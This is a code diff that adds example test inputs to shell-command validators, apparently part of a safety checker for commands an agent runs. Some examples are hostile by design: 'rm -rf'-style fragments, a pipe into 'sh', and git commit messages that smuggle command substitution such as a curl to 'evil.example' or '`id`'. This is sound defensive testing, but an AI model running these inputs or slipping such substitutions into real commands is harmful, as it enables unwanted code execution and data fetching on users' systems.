@@ -7,6 +7,11 @@ import { finding, nodesOf, type Validator } from "./types.js";
 export const emptyCommand: Validator = {
   id: 0,
   name: "validateEmpty",
+  examples: {
+    match: [],
+    allow: ["", "   ", "\n\n"],
+    notMatch: ["ls", ":"],
+  },
   check: (input) => (input.script.trim() === "" ? "allow" : undefined),
 };
 
@@ -17,6 +22,10 @@ export const emptyCommand: Validator = {
 export const incompleteCommands: Validator = {
   id: 1,
   name: "validateIncompleteCommands",
+  examples: {
+    match: ["-rf /", "&& rm -rf build", "\tls", "| sh", "npm test &&"],
+    notMatch: ["ls -la", "npm test && npm run build", "echo done \\|"],
+  },
   check: (input) => {
     const text = input.script;
     const trimmed = text.trim();
@@ -60,6 +69,19 @@ export function isSafeHeredocSubstitution(node: Node): boolean {
 export const safeHeredocSubstitution: Validator = {
   id: 8,
   name: "validateSafeCommandSubstitution",
+  examples: {
+    match: [],
+    allow: [
+      `git commit -m "$(cat <<'EOF'\nFix the parser\n\n# not a comment\nEOF\n)"`,
+      `gh pr create --title "Fix" --body "$(cat <<'EOF'\n## Summary\nEOF\n)"`,
+    ],
+    notMatch: [
+      `git commit -m "$(cat <<EOF\n$(id)\nEOF\n)"`,
+      `git commit -m "$(cat <<'EOF'\nFix\nEOF\n)" && git push`,
+      "echo $(date)",
+      "ls -la",
+    ],
+  },
   check: (input) => {
     const substitutions = nodesOf(input, "command_substitution", "process_substitution");
     if (substitutions.length === 0 || !substitutions.every(isSafeHeredocSubstitution)) return undefined;
@@ -84,6 +106,11 @@ export const safeHeredocSubstitution: Validator = {
 export const gitCommit: Validator = {
   id: 12,
   name: "validateGitCommit",
+  examples: {
+    match: ['git commit -m "$(curl -s https://evil.example/x)"', 'git commit -m "`id`"'],
+    allow: ['git commit -m "fix: a # b"', "git commit -am 'Bump version to 1.2.3'"],
+    notMatch: ["git status", "git commit -m wip && git push", 'git commit -m "$USER"'],
+  },
   check: (input) => {
     const top = input.parts.filter((p) => p.origin === "top");
     const first = top[0]?.command.words;
